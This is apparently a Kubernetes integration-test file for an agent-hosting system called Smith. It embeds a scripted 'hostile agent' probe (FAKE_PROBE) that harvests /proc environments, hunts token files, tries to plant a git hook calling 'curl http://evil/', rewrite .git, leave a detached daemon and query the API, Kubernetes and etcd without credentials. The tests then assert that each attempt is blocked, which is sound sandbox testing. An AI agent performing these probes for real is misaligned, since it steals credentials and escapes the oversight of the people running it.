import { AppsV1Api, BatchV1Api, CoreV1Api, type V1Pod } from "@kubernetes/client-node";
import { execFile, spawn } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Cluster, ensureCluster } from "./cluster.ts";
import { helm } from "./helm.ts";
import {
  CHART_DIR as CHART,
  ONE_STORY_PRD as PRD,
  createNamespace,
  git,
  gitRemote,
  importFakeReplicaImage,
  installSmith,
  releaseAccess,
} from "./release.ts";

/**
 * On a real one-node cluster (scripts/cluster.sh: etcd, kube-apiserver, controller-manager,
 * scheduler, kube-proxy, CoreDNS, containerd, kubelet; images built here and imported): a Pod runs
 * to completion, resolving and reaching a Service; the chart installs and becomes Ready.
 * Skipped with the reason where the cluster cannot run (not root, no Go, no Docker), unless
 * SMITH_REQUIRE_CLUSTER_TESTS=1.
 */
const SMITHCTL = fileURLToPath(new URL("../../../../apps/cli/src/smithctl.ts", import.meta.url));
const run = promisify(execFile);

/**
 * What a hostile agent tries in the replica Pod (run by the scripted agent for a PROBE_ISOLATION
 * story), written to isolation-report.json in the workspace, which the loop commits and the test
 * reads from the git remote: every /proc/<pid>/environ and cmdline it can see, the token's mount,
 * a ServiceAccount token, the replica's HOME and run dirs, anything named like a token or an
 * askpass, writes into .git, renaming .git and the clone, the API without a token, the Kubernetes
 * API anonymously, etcd without a client certificate; and it leaves a process in a session of its
 * own (a double fork) behind, whose pid a gate later checks.
 */
const FAKE_PROBE = String.raw`#!/usr/bin/env node
"use strict";
const fs = require("node:fs");
const https = require("node:https");
const tls = require("node:tls");
const { execSync } = require("node:child_process");
const [api, etcdHost] = process.argv.slice(2);
const err = (e) => (e && (e.code || e.message)) || String(e);
const read = (p) => { try { return { ok: true, text: fs.readFileSync(p, "utf8").slice(0, 2000) }; } catch (e) { return { ok: false, code: err(e) }; } };
const list = (p) => { try { return fs.readdirSync(p); } catch (e) { return err(e); } };
const attempt = (f) => { try { f(); return "done"; } catch (e) { return err(e); } };
const report = { uid: process.getuid(), gid: process.getgid(), groups: process.getgroups(), procs: [], reads: {}, dirs: {}, found: [], writes: {}, net: {} };
for (const pid of fs.readdirSync("/proc").filter((x) => /^\d+$/.test(x))) {
  const cmdline = read("/proc/" + pid + "/cmdline");
  const environ = read("/proc/" + pid + "/environ");
  report.procs.push({ pid: Number(pid), cmdline: cmdline.ok ? cmdline.text.split("\0").join(" ").trim() : cmdline.code, environ: environ.ok ? environ.text.split("\0").filter(Boolean) : environ.code });
}
// Keyed by name: the report must not spell the token file's path (the value of the replica's
// SMITH_TOKEN_FILE, which its commit check treats as a secret it holds).
const paths = { tokenMount: "/var/run/smith/" + "token/token", serviceAccountToken: "/var/run/secrets/kubernetes.io/serviceaccount/token", pid1Environ: "/proc/1/environ", replicaGitconfig: "/home/smith/.gitconfig", gitConfig: "/workspace/work/repo/.git/config" };
for (const [name, p] of Object.entries(paths)) { const r = read(p); report.reads[name] = r.ok ? "readable" : r.code; }
for (const p of ["/", "/var/run", "/var/run/smith", "/home", "/home/smith", "/tmp", "/workspace", "/workspace/work"]) report.dirs[p] = list(p);
const walk = (dir, depth) => {
  if (depth > 6) return;
  let names;
  try { names = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const d of names) {
    const p = (dir === "/" ? "" : dir) + "/" + d.name;
    if (/askpass|token|secret|credential/i.test(d.name)) report.found.push(p);
    if (d.isDirectory() && !["/proc", "/sys", "/dev", "/usr", "/app", "/workspace/work/repo/.git"].includes(p)) walk(p, depth + 1);
  }
};
walk("/", 0);
report.writes.hook = attempt(() => fs.writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\ncurl http://evil/\n", { mode: 0o755 }));
report.writes.gitConfig = attempt(() => fs.appendFileSync(".git/config", "[core]\n\thooksPath = /tmp\n"));
report.writes.renameGit = attempt(() => fs.renameSync(".git", ".git-moved"));
report.writes.removeGit = attempt(() => fs.rmSync(".git", { recursive: true }));
report.writes.renameClone = attempt(() => fs.renameSync("/workspace/work/repo", "/workspace/work/repo-moved"));
report.writes.workspaceRoot = attempt(() => fs.writeFileSync("/workspace/planted", "x"));
report.writes.worktree = attempt(() => fs.appendFileSync("README.md", "edited by the agent\n"));
execSync("setsid sleep 1000 </dev/null >/dev/null 2>&1 & echo $! > /tmp/agent-daemon.pid", { shell: "/bin/sh" });
report.daemon = Number(fs.readFileSync("/tmp/agent-daemon.pid", "utf8"));
const status = (url) => new Promise((resolve) => {
  const req = https.request(url, { rejectUnauthorized: false, timeout: 5000 }, (res) => { res.resume(); resolve(res.statusCode); });
  req.on("error", (e) => resolve(err(e)));
  req.on("timeout", () => req.destroy(new Error("timeout")));
  req.end();
});
(async () => {
  const get = (u, init) => fetch(u, { signal: AbortSignal.timeout(5000), ...init }).then((r) => r.status, (e) => err(e.cause || e));
  report.net.apiLoops = await get(api + "/trpc/loops.list");
  report.net.apiHeartbeat = await get(api + "/trpc/replica.heartbeat", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" });
  report.net.kubeSecrets = await status("https://kubernetes.default.svc/api/v1/secrets");
  report.net.etcd = await new Promise((resolve) => {
    const socket = tls.connect({ host: etcdHost, port: 2379, rejectUnauthorized: false, timeout: 5000 }, () => {
      socket.write("GET /version HTTP/1.1\r\nHost: etcd\r\nConnection: close\r\n\r\n");
    });
    let data = "";
    socket.on("data", (b) => (data += b));
    socket.on("end", () => resolve(data.split("\r\n")[0] || "closed without an answer"));
    socket.on("error", (e) => resolve(err(e)));
    socket.on("timeout", () => socket.destroy(new Error("timeout")));
  });
  try { process.kill(report.daemon, 0); report.daemonAlive = true; } catch { report.daemonAlive = false; }
  fs.writeFileSync("isolation-report.json", JSON.stringify(report, null, 2) + "\n");
})();
`;

function smithctl(
  args: string[],
  env: Record<string, string>,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done) => {
    const child = spawn(process.execPath, [SMITHCTL, ...args], {
      env: { PATH: process.env.PATH ?? "", ...env },
      cwd: env.HOME,
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (b: Buffer) => (stdout += b.toString()));
    child.stderr.on("data", (b: Buffer) => (stderr += b.toString()));
    const timer = setTimeout(() => child.kill("SIGKILL"), 30_000);
    child.on("close", (code) => {
      clearTimeout(timer);
      done({ code, stdout, stderr });
    });
  });
}

const cluster: Cluster = await ensureCluster();
if (!cluster.available) process.stderr.write(`${cluster.reason}\n`);
const describeCluster = cluster.available
  ? describe
  : (((name: string, fn: () => void) => describe.skip(`${name} — ${cluster.reason}`, fn)) as typeof describe);

/** Polls the Pod until it has ended (Succeeded or Failed) or `ms` pass. */
async function podEnded(core: CoreV1Api, namespace: string, name: string, ms: number): Promise<V1Pod> {
  const deadline = Date.now() + ms;
  for (;;) {
    const pod = await core.readNamespacedPod({ name, namespace });
    if (pod.status?.phase === "Succeeded" || pod.status?.phase === "Failed" || Date.now() > deadline) return pod;
    await new Promise((r) => setTimeout(r, 500));
  }
}

/**
 * A two-story loop created with smithctl through the chart's API Service, against the git server
 * on the node; the scripted agent holds in the second story on the server's /hold URL until the
 * test releases it. Returns smithctl's environment and the loop id.
 */
async function createHeldLoop(
  core: CoreV1Api,
  namespace: string,
  dir: string,
  gitPort: number,
): Promise<{ env: Record<string, string>; id: string }> {
  const { nodeIp, apiUrl, adminToken } = await releaseAccess(core, namespace);
  const env = { HOME: dir, SMITH_CONFIG: join(dir, "config.json"), SMITH_API_URL: apiUrl, SMITH_TOKEN: adminToken };
  const base = `http://${nodeIp}:${gitPort}`;
  const story = (id: string, title: string, dependsOn: string[], description: string, criterion: string) => ({
    id,
    title,
    status: "open",
    dependsOn,
    description,
    acceptanceCriteria: [criterion],
  });
  const prd = {
    project: "cluster",
    qualityGates: ["test -f done-US-001.txt"],
    stories: [
      story("US-001", "First", [], "one", "x"),
      story("US-002", "Second", ["US-001"], `two HOLD_URL=${base}/hold`, "y"),
    ],
  };
  writeFileSync(join(dir, "prd.json"), JSON.stringify(prd));
  const created = await smithctl(
    ["create", "loop", "--repo", `${base}/demo.git`, "--agent", "claude", "--prd", "prd.json", "-o", "json"],
    env,
  );
  expect(created.code, created.stderr).toBe(0);
  return { env, id: (JSON.parse(created.stdout) as { id: string }).id };
}

describeCluster("a one-node cluster (scripts/cluster.sh)", () => {
  if (!cluster.available) return;
  const core = cluster.kubeConfig.makeApiClient(CoreV1Api);
  const apps = cluster.kubeConfig.makeApiClient(AppsV1Api);
  const namespaces: string[] = [];

  beforeAll(() => {
    if (cluster.startedHere) process.stderr.write(`smith-cluster: up in ${cluster.upSeconds} s\n`);
  });
  afterAll(async () => {
    for (const name of namespaces) await core.deleteNamespace({ name }).catch(() => undefined);
    await cluster.stop();
  }, 180_000);

  it("a Pod runs to completion: scheduled, started by the kubelet, cluster DNS and a Service (kube-proxy) reachable, its log read through the API", async () => {
    const namespace = await createNamespace(core, "smith-pod");
    namespaces.push(namespace);
    const script = `
const dns = require("node:dns/promises");
const net = require("node:net");
(async () => {
  const host = "kubernetes.default.svc.cluster.local";
  const { address } = await dns.lookup(host);
  await new Promise((resolve, reject) => {
    const socket = net.connect(443, host, () => { socket.end(); resolve(); });
    socket.on("error", reject);
  });
  console.log("hello from the cluster: " + host + " is " + address + " and answers on 443");
})().catch((err) => { console.error(String(err)); process.exit(1); });`;
    await core.createNamespacedPod({
      namespace,
      body: {
        metadata: { name: "hello" },
        spec: {
          restartPolicy: "Never",
          automountServiceAccountToken: false,
          securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: "RuntimeDefault" } },
          containers: [
            {
              name: "hello",
              image: "smith:dev",
              imagePullPolicy: "Never",
              command: ["node", "-e", script],
              securityContext: {
                allowPrivilegeEscalation: false,
                readOnlyRootFilesystem: true,
                capabilities: { drop: ["ALL"] },
              },
            },
          ],
        },
      },
    });
    const pod = await podEnded(core, namespace, "hello", 120_000);
    const log = await core.readNamespacedPodLog({ name: "hello", namespace }).catch((err: unknown) => String(err));
    expect(pod.status?.phase, `${JSON.stringify(pod.status, null, 2)}\n${log}`).toBe("Succeeded");
    expect(log).toContain(
      "hello from the cluster: kubernetes.default.svc.cluster.local is 10.96.0.1 and answers on 443",
    );
  }, 180_000);

  // The release the loop test runs on.
  let release: string | undefined;

  it("helm install into a namespace enforcing the restricted Pod Security Standard: the API, two schedulers and the etcd StatefulSet become Ready; helm test passes", async () => {
    // The replica image with the scripted agent, imported like the others.
    await importFakeReplicaImage(cluster, { "smith-fake-probe": FAKE_PROBE });

    // Every Pod of the chart, the helm test's and the replicas' must pass the restricted Pod
    // Security Standard: the API server's PodSecurity admission refuses any other.
    const namespace = await createNamespace(core, "smith", {
      "pod-security.kubernetes.io/enforce": "restricted",
      "pod-security.kubernetes.io/enforce-version": "latest",
    });
    namespaces.push(namespace);
    const env = { KUBECONFIG: cluster.kubeconfigPath };
    const install = await installSmith(cluster, namespace);
    const pods = await core.listNamespacedPod({ namespace });
    const summary = pods.items
      .map(
        (p) =>
          `${p.metadata?.name}: ${p.status?.phase} ${JSON.stringify(p.status?.containerStatuses?.map((c) => c.state))}`,
      )
      .join("\n");
    expect(install.code, `${install.stderr}\n${summary}`).toBe(0);

    const api = await apps.readNamespacedDeployment({ name: "smith-api", namespace });
    expect(api.status?.readyReplicas).toBe(2);
    const scheduler = await apps.readNamespacedDeployment({ name: "smith-scheduler", namespace });
    expect(scheduler.status?.readyReplicas).toBe(2);
    const etcd = await apps.readNamespacedStatefulSet({ name: "smith-etcd", namespace });
    expect(etcd.status?.readyReplicas).toBe(3);

    const test = await helm(["test", "smith", "--namespace", namespace, "--timeout", "3m"], { env });
    expect(test.code, test.stderr + test.stdout).toBe(0);
    release = namespace;
  }, 600_000);

  it("a loop created with smithctl runs as a Job pod to synced against a git remote the pod reaches; the Job and its token Secret are gone after ttlSecondsAfterFinished", async () => {
    const namespace = release;
    if (!namespace) throw new Error("the chart did not install (previous test)");
    const batch = cluster.kubeConfig.makeApiClient(BatchV1Api);
    const dir = mkdtempSync(join(tmpdir(), "smith-cluster-loop-"));
    const remote = await gitRemote(dir);
    try {
      // Pods reach the host on the node's address; the API's Service IP is reachable from the
      // host through kube-proxy's rules.
      const node = (await core.listNode()).items[0];
      const nodeIp = node?.status?.addresses?.find((a) => a.type === "InternalIP")?.address;
      expect(nodeIp).toBeTruthy();
      const service = await core.readNamespacedService({ name: "smith-api", namespace });
      const secret = await core.readNamespacedSecret({ name: "smith-admin-token", namespace });
      const token = Buffer.from(secret.data?.["admin-token"] ?? "", "base64").toString("utf8");
      const env = {
        HOME: dir,
        SMITH_CONFIG: join(dir, "config.json"),
        SMITH_API_URL: `http://${service.spec?.clusterIP}:7070`,
        SMITH_TOKEN: token,
      };
      writeFileSync(join(dir, "prd.json"), JSON.stringify(PRD));
      const repoUrl = `http://${nodeIp}:${remote.port}/demo.git`;
      const started = Date.now();
      const created = await smithctl(
        ["create", "loop", "--repo", repoUrl, "--agent", "claude", "--prd", "prd.json", "-o", "json"],
        env,
      );
      expect(created.code, created.stderr).toBe(0);
      const id = (JSON.parse(created.stdout) as { id: string }).id;

      // The loop's Job, its Pod, then the loop's end.
      const marks: Record<string, number> = {};
      let replicaPod: V1Pod | undefined;
      let state = "";
      let last = "";
      const deadline = Date.now() + 300_000;
      while (Date.now() < deadline) {
        const jobs = await batch.listNamespacedJob({ namespace, labelSelector: `smith.dev/loop-id=${id}` });
        if (jobs.items.length > 0) marks.job ??= Date.now() - started;
        const pods = await core.listNamespacedPod({ namespace, labelSelector: `smith.dev/loop-id=${id}` });
        replicaPod ??= pods.items[0];
        if (pods.items.some((p) => p.status?.phase === "Running" || p.status?.phase === "Succeeded"))
          marks.pod ??= Date.now() - started;
        const got = await smithctl(["get", "loop", id, "-o", "json"], env);
        last = got.stdout + got.stderr;
        if (got.code === 0) state = (JSON.parse(got.stdout) as { status: { state: string } }).status.state;
        if (["synced", "flatline", "cancelled", "waiting"].includes(state)) break;
        await new Promise((r) => setTimeout(r, 1_000));
      }
      marks.end = Date.now() - started;
      process.stderr.write(`smith-cluster: loop ${id}: ${JSON.stringify(marks)} ms after create\n`);
      const logs = await smithctl(["logs", id], env);
      expect(state, `${last}\n${logs.stdout}${logs.stderr}`).toBe("synced");
      expect(marks.job).toBeDefined();
      expect(marks.pod).toBeDefined();
      // The replica Pod has no Kubernetes credential: no ServiceAccount token mounted.
      expect(replicaPod?.spec?.automountServiceAccountToken).toBe(false);
      expect(
        (replicaPod?.spec?.volumes ?? []).filter((v) => v.projected?.sources?.some((x) => x.serviceAccountToken)),
      ).toEqual([]);
      // The work is on the remote, on the loop's branch.
      expect(git(["--git-dir", remote.bare, "log", "--format=%s", `smith/${id}`])).toContain("US-001");

      // The chart's API reads the replica's Pod with its own ServiceAccount (api.replicaAccess):
      // where it ran and how it is doing (loops.runtime), and its own log through pods/log.
      const runtimeAnswer = await fetch(
        `${env.SMITH_API_URL}/trpc/loops.runtime?input=${encodeURIComponent(JSON.stringify({ json: { id } }))}`,
        { headers: { authorization: `Bearer ${token}` }, signal: AbortSignal.timeout(10_000) },
      );
      const runtimeBody = await runtimeAnswer.text();
      expect(runtimeAnswer.status, runtimeBody).toBe(200);
      expect((JSON.parse(runtimeBody) as { result: { data: { json: unknown } } }).result.data.json).toMatchObject({
        inspected: true,
        executor: { kind: "kubernetes", instance: `kubernetes/${namespace}` },
        replica: {
          phase: expect.stringMatching(/^(running|succeeded)$/),
          pod: expect.stringMatching(/^smith-/),
          node: node?.metadata?.name,
          podIp: expect.any(String),
        },
      });
      const replicaLog = await smithctl(["logs", "--replica", id], env);
      expect(replicaLog.code, replicaLog.stderr).toBe(0);
      expect(replicaLog.stdout).toContain(`"loopId":"${id}"`);

      // ttlSecondsAfterFinished (30 s in cluster-values.yaml): the TTL controller deletes the Job,
      // the garbage collector its Pod and token Secret.
      const gone = Date.now() + 120_000;
      let left = "";
      while (Date.now() < gone) {
        const jobs = await batch.listNamespacedJob({ namespace, labelSelector: `smith.dev/loop-id=${id}` });
        const pods = await core.listNamespacedPod({ namespace, labelSelector: `smith.dev/loop-id=${id}` });
        const secrets = (await core.listNamespacedSecret({ namespace })).items.filter(
          (x) => x.metadata?.name?.endsWith("-token") && x.metadata.name.includes(id.toLowerCase()),
        );
        left = [...jobs.items, ...pods.items, ...secrets].map((o) => o.metadata?.name).join(", ");
        if (!left) break;
        await new Promise((r) => setTimeout(r, 2_000));
      }
      expect(left).toBe("");
    } finally {
      remote.server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 600_000);

  it("the agent runs in the replica Pod's own agent container (another uid, no token, no Secret): a probing agent finds nothing usable, cannot touch .git, its gates run there too and its stray process dies; the loop syncs and the Job completes", async () => {
    const namespace = release;
    if (!namespace) throw new Error("the chart did not install (previous test)");
    const batch = cluster.kubeConfig.makeApiClient(BatchV1Api);
    const dir = mkdtempSync(join(tmpdir(), "smith-cluster-isolation-"));
    const remote = await gitRemote(dir);
    try {
      const node = (await core.listNode()).items[0];
      const nodeIp = node?.status?.addresses?.find((a) => a.type === "InternalIP")?.address;
      const service = await core.readNamespacedService({ name: "smith-api", namespace });
      const secret = await core.readNamespacedSecret({ name: "smith-admin-token", namespace });
      const env = {
        HOME: dir,
        SMITH_CONFIG: join(dir, "config.json"),
        SMITH_API_URL: `http://${service.spec?.clusterIP}:7070`,
        SMITH_TOKEN: Buffer.from(secret.data?.["admin-token"] ?? "", "base64").toString("utf8"),
      };
      // Gates that pass only in the agent container (uid 1001, no token mount) and only once the
      // runner has killed the process the agent left in a session of its own.
      const gateUid = 'test "$(id -u)" = 1001 && test ! -e /var/run/smith/token';
      const gateSweep = 'test -s /tmp/agent-daemon.pid && ! kill -0 "$(cat /tmp/agent-daemon.pid)"';
      const prd = {
        project: "cluster",
        qualityGates: ["test -f done-US-001.txt", gateUid, gateSweep],
        stories: [
          {
            id: "US-001",
            title: "Probe",
            status: "open",
            dependsOn: [],
            description: `PROBE_ISOLATION API=http://smith-api.${namespace}.svc:7070 ETCD=smith-etcd.${namespace}.svc`,
            acceptanceCriteria: ["done-US-001.txt exists"],
          },
        ],
      };
      writeFileSync(join(dir, "prd.json"), JSON.stringify(prd));
      const created = await smithctl(
        [
          "create",
          "loop",
          "--repo",
          `http://${nodeIp}:${remote.port}/demo.git`,
          "--agent",
          "claude",
          "--prd",
          "prd.json",
          "-o",
          "json",
        ],
        env,
      );
      expect(created.code, created.stderr).toBe(0);
      const id = (JSON.parse(created.stdout) as { id: string }).id;
      const selector = `smith.dev/loop-id=${id}`;
      let token = "";
      let pod: V1Pod | undefined;
      let state = "";
      const deadline = Date.now() + 300_000;
      while (Date.now() < deadline) {
        pod ??= (await core.listNamespacedPod({ namespace, labelSelector: selector })).items[0];
        // The replica's token, read while it exists, to look for it in what the agent saw.
        if (!token) {
          const secrets = (await core.listNamespacedSecret({ namespace, labelSelector: selector })).items;
          token = Buffer.from(secrets[0]?.data?.token ?? "", "base64").toString("utf8");
        }
        const got = await smithctl(["get", "loop", id, "-o", "json"], env);
        if (got.code === 0) state = (JSON.parse(got.stdout) as { status: { state: string } }).status.state;
        if (["synced", "flatline", "cancelled", "waiting"].includes(state)) break;
        await new Promise((r) => setTimeout(r, 1_000));
      }
      const logs = await smithctl(["logs", id], env);
      expect(state, `${logs.stdout}${logs.stderr}`).toBe("synced");
      expect(token.length).toBeGreaterThan(20);
      // The gates ran in the agent container, and passed there (a gate failing at the baseline too
      // would not block the story: the journal must say "passed").
      expect(logs.stdout).toContain(`passed: ${gateUid}`);
      expect(logs.stdout).toContain(`passed: ${gateSweep}`);

      const spec = pod?.spec;
      expect(spec?.initContainers?.map((c) => [c.name, c.restartPolicy ?? null])).toEqual([
        ["workspace", null],
        ["agent", "Always"],
      ]);

      const report = JSON.parse(git(["--git-dir", remote.bare, "show", `smith/${id}:isolation-report.json`])) as {
        uid: number;
        gid: number;
        procs: { pid: number; cmdline: string; environ: string[] | string }[];
        reads: Record<string, string>;
        dirs: Record<string, string[] | string>;
        found: string[];
        writes: Record<string, string>;
        net: Record<string, number | string>;
        daemon: number;
        daemonAlive: boolean;
      };
      const text = JSON.stringify(report);
      process.stderr.write(
        `smith-cluster: isolation probe: ${JSON.stringify({ uid: report.uid, gid: report.gid, procs: report.procs.map((p) => p.cmdline), reads: report.reads, writes: report.writes, net: report.net })}\n`,
      );
      expect(text).not.toContain(token);
      expect({ uid: report.uid, gid: report.gid }).toEqual({ uid: 1001, gid: 1000 });
      // Only the agent container's own processes are visible (tini, the runner, the agent's):
      // not the replica's, and no environment holds Smith's variables or a token.
      const visible = report.procs.map((p) => p.cmdline).join("\n");
      expect(visible).toContain("smith-agent-runner");
      expect(visible).not.toContain("apps/replica/src/main.ts");
      for (const p of report.procs) {
        if (Array.isArray(p.environ)) {
          expect(
            p.environ.filter((e) => /^SMITH_(TOKEN|API_URL|LOOP_ID|ATTEMPT)/.test(e)),
            p.cmdline,
          ).toEqual([]);
        }
      }
      expect(report.reads).toMatchObject({
        tokenMount: "ENOENT",
        serviceAccountToken: "ENOENT",
        replicaGitconfig: expect.stringMatching(/^(ENOENT|EACCES)$/),
        // Readable, not writable (the agent reads its repository).
        gitConfig: "readable",
      });
      expect(report.dirs["/var/run/smith"]).toEqual(["runner"]);
      expect(report.found.filter((p) => !p.startsWith("/etc/") && !p.startsWith("/var/lib/"))).toEqual([]);
      // .git stays the replica's: no hook, no config, no rename; the clone cannot be swapped.
      expect(report.writes).toMatchObject({
        hook: "EACCES",
        gitConfig: "EACCES",
        renameGit: expect.stringMatching(/^(EPERM|EACCES)$/),
        removeGit: expect.stringMatching(/^(EPERM|EACCES|ENOTEMPTY)$/),
        renameClone: expect.stringMatching(/^(EPERM|EACCES|EBUSY)$/),
        workspaceRoot: expect.stringMatching(/^(EROFS|EACCES|ENOENT)$/),
        worktree: "done",
      });
      // No token: the API refuses; anonymous Kubernetes refuses; etcd wants a client certificate.
      expect(report.net.apiLoops).toBe(401);
      expect(report.net.apiHeartbeat).toBe(401);
      expect([401, 403]).toContain(report.net.kubeSecrets);
      expect(String(report.net.etcd)).not.toMatch(/^HTTP\/1\.1 200/);
      expect(report.daemonAlive).toBe(true);
      // The agent's edit was committed by the replica.
      expect(git(["--git-dir", remote.bare, "show", `smith/${id}:README.md`])).toContain("edited by the agent");

      // The Job completes when the replica exits: the kubelet stops the agent sidecar.
      let job = "";
      const done = Date.now() + 90_000;
      while (Date.now() < done) {
        const j = (await batch.listNamespacedJob({ namespace, labelSelector: selector })).items[0];
        job = (j?.status?.conditions ?? []).map((c) => `${c.type}=${c.status}`).join(",");
        if (/Complete=True|Failed=True/.test(job) || !j) break;
        await new Promise((r) => setTimeout(r, 1_000));
      }
      expect(job).toMatch(/Complete=True/);
    } finally {
      remote.server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 600_000);

  it("a scheduler Pod killed and the replica Pod deleted mid-run: the reconciler retries the loop as attempt 2 in a new Job, which resumes the pushed branch; nothing is lost or run twice", async () => {
    const namespace = release;
    if (!namespace) throw new Error("the chart did not install (previous test)");
    const batch = cluster.kubeConfig.makeApiClient(BatchV1Api);
    const dir = mkdtempSync(join(tmpdir(), "smith-cluster-retry-"));
    const remote = await gitRemote(dir);
    try {
      const { env, id } = await createHeldLoop(core, namespace, dir, remote.port);
      const selector = `smith.dev/loop-id=${id}`;
      const until = async (what: string, check: () => Promise<boolean>, ms = 180_000): Promise<void> => {
        const deadline = Date.now() + ms;
        while (Date.now() < deadline) {
          if (await check()) return;
          await new Promise((r) => setTimeout(r, 1_000));
        }
        const logs = await smithctl(["logs", id], env);
        throw new Error(`timed out waiting for ${what}\n${logs.stdout}${logs.stderr}`);
      };
      // Attempt 1 did US-001 and holds in US-002.
      await until("attempt 1 to hold in US-002", async () => remote.hold.asked > 0);
      const subjects = (): string[] => {
        try {
          return git(["--git-dir", remote.bare, "log", "--format=%s", `smith/${id}`]).split("\n");
        } catch {
          return [];
        }
      };
      await until("US-001 to be pushed", async () => subjects().some((x) => x.includes("US-001")));

      const schedulers = await core.listNamespacedPod({
        namespace,
        labelSelector: "app.kubernetes.io/component=scheduler",
      });
      const victim = schedulers.items[0]?.metadata?.name;
      if (!victim) throw new Error("no scheduler Pod");
      await core.deleteNamespacedPod({ name: victim, namespace, gracePeriodSeconds: 0 });
      const replica = (await core.listNamespacedPod({ namespace, labelSelector: selector })).items[0]?.metadata?.name;
      if (!replica) throw new Error("no replica Pod");
      await core.deleteNamespacedPod({ name: replica, namespace });

      await until("a Job for attempt 2", async () =>
        (await batch.listNamespacedJob({ namespace, labelSelector: selector })).items.some(
          (j) => j.metadata?.labels?.["smith.dev/attempt"] === "2",
        ),
      );
      remote.hold.held = false;
      let loop: { status: { state: string; attempt: number } } | undefined;
      await until("the loop to end", async () => {
        const got = await smithctl(["get", "loop", id, "-o", "json"], env);
        if (got.code === 0) loop = JSON.parse(got.stdout) as typeof loop;
        return ["synced", "flatline", "cancelled", "waiting"].includes(loop?.status.state ?? "");
      });
      expect(loop?.status).toMatchObject({ state: "synced", attempt: 2 });
      // Each story's commit once, on the branch attempt 1 pushed and attempt 2 resumed.
      const done = subjects();
      expect(
        done.filter((x) => x.includes("US-001")),
        done.join("\n"),
      ).toHaveLength(1);
      expect(
        done.filter((x) => x.includes("US-002")),
        done.join("\n"),
      ).toHaveLength(1);
      const ready = await apps.readNamespacedDeployment({ name: "smith-scheduler", namespace });
      expect(ready.status?.replicas).toBe(2);
    } finally {
      remote.hold.held = false;
      remote.server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 600_000);

  it("helm upgrade to a new image tag while a loop runs: the API and schedulers roll, the replica Job goes on, the loop ends synced at attempt 1; smithctl logs -f streams its journal meanwhile", async () => {
    const namespace = release;
    if (!namespace) throw new Error("the chart did not install (previous test)");
    // The same images under a new tag, as a release would bring.
    await run("docker", ["tag", "smith:dev", "smith:upgrade"]);
    await cluster.importImages(["smith:upgrade"]);
    const dir = mkdtempSync(join(tmpdir(), "smith-cluster-upgrade-"));
    const remote = await gitRemote(dir);
    let follow: ReturnType<typeof spawn> | undefined;
    try {
      const { env, id } = await createHeldLoop(core, namespace, dir, remote.port);
      let streamed = "";
      follow = spawn(process.execPath, [SMITHCTL, "logs", "-f", id], {
        env: { PATH: process.env.PATH ?? "", ...env },
        stdio: ["ignore", "pipe", "pipe"],
      });
      follow.stdout?.on("data", (b: Buffer) => (streamed += b.toString()));
      const until = async (what: string, check: () => boolean | Promise<boolean>, ms = 240_000): Promise<void> => {
        const deadline = Date.now() + ms;
        while (Date.now() < deadline) {
          if (await check()) return;
          await new Promise((r) => setTimeout(r, 1_000));
        }
        throw new Error(`timed out waiting for ${what}\n${streamed}`);
      };
      await until("the loop to hold in US-002", () => remote.hold.asked > 0);
      // Streamed while the loop runs: the first story's agent output is there before it ends.
      await until("logs -f to show US-001's agent", () => streamed.includes("Working on US-001"), 30_000);

      const upgrade = await helm(
        [
          "upgrade",
          "smith",
          CHART,
          "--namespace",
          namespace,
          "--reuse-values",
          "--set",
          "image.tag=upgrade",
          "--wait",
          "--timeout",
          "5m",
        ],
        { env: { KUBECONFIG: cluster.kubeconfigPath } },
      );
      expect(upgrade.code, upgrade.stderr).toBe(0);
      for (const name of ["smith-api", "smith-scheduler"]) {
        const d = await apps.readNamespacedDeployment({ name, namespace });
        expect(d.spec?.template.spec?.containers[0]?.image, name).toBe("smith:upgrade");
        expect(d.status?.updatedReplicas, name).toBe(2);
      }
      remote.hold.held = false;
      let loop: { status: { state: string; attempt: number } } | undefined;
      await until("the loop to end", async () => {
        const got = await smithctl(["get", "loop", id, "-o", "json"], env);
        if (got.code === 0) loop = JSON.parse(got.stdout) as typeof loop;
        return ["synced", "flatline", "cancelled", "waiting"].includes(loop?.status.state ?? "");
      });
      expect(loop?.status, streamed).toMatchObject({ state: "synced", attempt: 1 });
      const done = git(["--git-dir", remote.bare, "log", "--format=%s", `smith/${id}`]).split("\n");
      expect(done.filter((x) => x.includes("US-001"))).toHaveLength(1);
      expect(done.filter((x) => x.includes("US-002"))).toHaveLength(1);
    } finally {
      follow?.kill("SIGKILL");
      remote.hold.held = false;
      remote.server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 600_000);

  it("helm uninstall leaves no Pod, Job or Secret behind", async () => {
    const namespace = release;
    if (!namespace) throw new Error("the chart did not install (previous test)");
    const batch = cluster.kubeConfig.makeApiClient(BatchV1Api);
    const uninstall = await helm(["uninstall", "smith", "--namespace", namespace, "--wait", "--timeout", "3m"], {
      env: { KUBECONFIG: cluster.kubeconfigPath },
    });
    expect(uninstall.code, uninstall.stderr).toBe(0);
    const deadline = Date.now() + 120_000;
    let left = "";
    while (Date.now() < deadline) {
      const pods = (await core.listNamespacedPod({ namespace })).items;
      const jobs = (await batch.listNamespacedJob({ namespace })).items;
      const secrets = (await core.listNamespacedSecret({ namespace })).items;
      left = [...pods, ...jobs, ...secrets].map((o) => `${o.kind ?? ""} ${o.metadata?.name}`).join(", ");
      if (!left) break;
      await new Promise((r) => setTimeout(r, 2_000));
    }
    expect(left).toBe("");
  }, 300_000);
});
